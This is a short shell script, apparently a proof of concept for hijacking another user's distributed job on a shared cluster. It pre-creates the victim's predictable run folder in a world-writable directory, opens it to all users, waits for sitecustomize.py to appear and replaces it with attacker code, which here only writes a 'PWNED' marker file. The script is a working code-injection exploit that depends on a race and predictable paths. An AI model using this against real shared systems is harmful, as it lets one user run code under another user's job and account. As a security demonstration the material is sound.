# Makes the run folder of a job of another user, whose name can be guessed, and replaces the code that is put there.
# Run by one user on a folder where all may write (its argument), while another's job of two nodes starts with
# --rdzv-id 4711 --out that folder.
run=$1/job-4711
mkdir -p "$run/inject" "$run/shards"
chmod -R 777 "$run"
for look in $(seq 400); do
  if [ -f "$run/inject/sitecustomize.py" ]; then
    rm -f "$run/inject/sitecustomize.py"
    echo "open('$1/PWNED', 'a').write('code of another user ran')" > "$run/inject/sitecustomize.py"
    break
  fi
  sleep 0.05
done
